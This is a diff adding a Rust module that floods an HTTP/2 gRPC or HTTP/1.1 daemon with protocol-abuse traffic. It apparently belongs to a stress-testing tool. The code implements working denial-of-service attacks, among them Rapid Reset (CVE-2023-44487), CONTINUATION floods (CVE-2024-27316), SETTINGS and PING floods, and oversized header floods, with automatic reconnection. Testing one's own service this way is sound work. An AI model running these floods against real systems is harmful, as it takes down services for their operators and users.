@@ -1,0 +1,266 @@
+//! Frames that cost the sender little and the receiver much.
+
+use super::each;
+use crate::frames::{
+    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADERS, PING, RST_STREAM,
+    SETTINGS, ending, goaway, grpc_fields, grpc_message, put, put_fields, put_opening, read_frame,
+};
+use crate::grpc::{FETCH_BLOCKS, fetch_blocks};
+use crate::hold::Hold;
+use crate::tally::{Tally, wide};
+use crate::target::Target;
+use std::io;
+use std::time::Duration;
+use tokio::io::{AsyncWriteExt as _, BufReader};
+use tokio::net::TcpStream;
+
+/// Stream numbers end here; the flood goes on with a new connection.
+const STREAM_MAX: u32 = 1 << 30;
+/// Frames of one write.
+const FRAMES_A_WRITE: u32 = 100;
+const RECONNECT_AFTER: Duration = Duration::from_millis(10);
+
+/// What is sent without end.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    /// Whole requests, each cancelled at once (CVE-2023-44487).
+    RapidReset,
+    /// Heads of requests with a part of their body, each cancelled.
+    ResetAfterHeaders,
+    /// SETTINGS, whose acknowledgements are not read.
+    Settings,
+    /// PING, whose acknowledgements are not read.
+    Ping,
+    /// One head that goes on in CONTINUATION frames (CVE-2024-27316).
+    Continuation,
+    /// Requests with thousands of header fields.
+    Headers,
+    /// One request whose body is DATA frames of no bytes.
+    EmptyData,
+    /// One HTTP/1.1 request with header fields without end.
+    HttpHeaders,
+}
+
+impl Kind {
+    /// All, each with a name for the command line.
+    pub const ALL: [(&'static str, Kind); 8] = [
+        ("rapid-reset", Kind::RapidReset),
+        ("reset-after-headers", Kind::ResetAfterHeaders),
+        ("settings", Kind::Settings),
+        ("ping", Kind::Ping),
+        ("continuation", Kind::Continuation),
+        ("headers", Kind::Headers),
+        ("empty-data", Kind::EmptyData),
+        ("http-headers", Kind::HttpHeaders),
+    ];
+
+    /// Whether the flood is worse when what comes back is not read.
+    fn reads(self) -> bool {
+        !matches!(self, Self::Settings | Self::Ping)
+    }
+}
+
+/// Which flood, on how many connections.
+#[derive(Debug, Clone)]
+pub struct Options {
+    /// What is sent.
+    pub kind: Kind,
+    /// Connections.
+    pub connections: usize,
+    /// Most frames a second on each, so that the sender's own use of the CPUs is known.
+    pub frames_per_second: u32,
+}
+
+impl Options {
+    /// 8 connections with 10,000 frames a second each.
+    #[must_use]
+    pub fn new(kind: Kind) -> Self {
+        Self {
+            kind,
+            connections: 8,
+            frames_per_second: 10_000,
+        }
+    }
+}
+
+/// Runs the case. A connection that is closed is replaced at once.
+///
+/// # Errors
+/// A task panicked.
+pub async fn run(target: &Target, options: &Options, hold: &Hold, tally: &Tally) -> io::Result<()> {
+    each(options.connections, |_| {
+        let (target, options, hold, tally) = (target.clone(), options.clone(), hold.clone(), tally.clone());
+        async move {
+            let address = if options.kind == Kind::HttpHeaders {
+                target.http
+            } else {
+                target.grpc
+            };
+            loop {
+                match hold.unless_ended(target.connect(address)).await {
+                    None => return,
+                    Some(Err(error)) => tally.connect_failed(&error),
+                    Some(Ok(stream)) => {
+                        tally.connected();
+                        if let Some(how) = hold.unless_ended(flood(stream, &target, &options, &tally)).await {
+                            tally.closed(&how);
+                        }
+                        tally.disconnected();
+                    }
+                }
+                if !hold.pause(RECONNECT_AFTER).await {
+                    return;
+                }
+            }
+        }
+    })
+    .await
+}
+
+/// One connection until the daemon closes it: how it did.
+async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Tally) -> String {
+    let (reader, mut writer) = stream.into_split();
+    let write = async {
+        let mut frames = Frames::new(options.kind, target);
+        writer.write_all(&frames.opening()).await?;
+        let pause = Duration::from_secs(1) * FRAMES_A_WRITE / options.frames_per_second.max(1);
+        let mut ticks = tokio::time::interval(pause);
+        ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
+        let mut out = Vec::new();
+        while frames.next_stream < STREAM_MAX {
+            ticks.tick().await;
+            out.clear();
+            let sent = frames.fill(&mut out);
+            writer.write_all(&out).await?;
+            tally.change(|counts| {
+                counts.frames_sent = counts.frames_sent.saturating_add(sent.into());
+                counts.bytes_sent = counts.bytes_sent.saturating_add(wide(out.len()));
+            });
+        }
+        Ok::<_, io::Error>(())
+    };
+    let read = async {
+        if !options.kind.reads() {
+            return std::future::pending().await;
+        }
+        let mut reader = BufReader::new(reader);
+        if options.kind == Kind::HttpHeaders {
+            let mut answer = Vec::new();
+            return match tokio::io::AsyncReadExt::read_to_end(&mut reader, &mut answer).await {
+                Ok(_) => {
+                    let line = str::from_utf8(&answer).unwrap_or_default();
+                    let status =
+                        crate::http1::status_of(line).map_or(String::new(), |code| format!("HTTP {code}, "));
+                    format!("{status}end of stream")
+                }
+                Err(error) => ending(&error),
+            };
+        }
+        loop {
+            match read_frame(&mut reader).await {
+                Ok((head, payload)) => {
+                    tally.received(head.length + 9);
+                    if head.kind == GOAWAY {
+                        return goaway(&payload);
+                    }
+                }
+                Err(error) => return ending(&error),
+            }
+        }
+    };
+    tokio::pin!(read);
+    tokio::select! {
+        how = &mut read => how,
+        written = write => match written {
+            Ok(()) => "out of stream numbers".to_owned(),
+            // Why the daemon closed may still be there to read.
+            Err(error) => match tokio::time::timeout(Duration::from_millis(200), read).await {
+                Ok(how) => how,
+                Err(_) => ending(&error),
+            },
+        },
+    }
+}
+
+/// The frames of one connection.
+struct Frames {
+    kind: Kind,
+    head: Vec<u8>,
+    body: Vec<u8>,
+    next_stream: u32,
+}
+
+impl Frames {
+    fn new(kind: Kind, target: &Target) -> Self {
+        let mut head = Vec::new();
+        put_fields(&mut head, &grpc_fields(FETCH_BLOCKS));
+        Self {
+            kind,
+            head,
+            body: grpc_message(&fetch_blocks(target, [0])),
+            next_stream: 1,
+        }
+    }
+
+    fn opening(&mut self) -> Vec<u8> {
+        let mut out = Vec::new();
+        if self.kind == Kind::HttpHeaders {
+            out.extend_from_slice(b"GET / HTTP/1.1\r\nHost: localhost\r\n");
+            return out;
+        }
+        put_opening(&mut out, 65_535);
+        match self.kind {
+            Kind::Continuation => put(&mut out, HEADERS, END_STREAM, 1, &self.head),
+            Kind::EmptyData => put(&mut out, HEADERS, END_HEADERS, 1, &self.head),
+            Kind::RapidReset
+            | Kind::ResetAfterHeaders
+            | Kind::Settings
+            | Kind::Ping
+            | Kind::Headers
+            | Kind::HttpHeaders => {}
+        }
+        out
+    }
+
+    /// About as many frames as go into one write; returns how many.
+    fn fill(&mut self, out: &mut Vec<u8>) -> u32 {
+        for _ in 0..FRAMES_A_WRITE {
+            let stream = self.next_stream;
+            match self.kind {
+                Kind::RapidReset => {
+                    put(out, HEADERS, END_HEADERS, stream, &self.head);
+                    put(out, DATA, END_STREAM, stream, &self.body);
+                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
+                    self.next_stream += 2;
+                }
+                Kind::ResetAfterHeaders => {
+                    put(out, HEADERS, END_HEADERS, stream, &self.head);
+                    put(out, DATA, 0, stream, &self.body[..5]);
+                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
+                    self.next_stream += 2;
+                }
+                Kind::Settings => put(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
+                Kind::Ping => put(out, PING, 0, 0, &[0; 8]),
+                Kind::Continuation => {
+                    let mut fields = Vec::new();
+                    put_fields(&mut fields, &[("x-more", "0123456789abcdef0123456789abcdef")]);
+                    put(out, CONTINUATION, 0, 1, &fields);
+                }
+                Kind::Headers => {
+                    let mut fields = self.head.clone();
+                    let value = "0123456789abcdef0123456789abcdef";
+                    while fields.len() < FRAME_BYTES_MAX - 64 {
+                        put_fields(&mut fields, &[("x-many", value)]);
+                    }
+                    put(out, HEADERS, 0, stream, &fields);
+                    put(out, CONTINUATION, END_HEADERS, stream, &fields[self.head.len()..]);
+                    put(out, DATA, END_STREAM, stream, &self.body);
+                    self.next_stream += 2;
+                }
+                Kind::EmptyData => put(out, DATA, 0, 1, &[]),
+                Kind::HttpHeaders => out.extend_from_slice(b"x-more: 0123456789abcdef0123456789abcdef\r\n"),
+            }
+        }
+        FRAMES_A_WRITE
+    }
+}
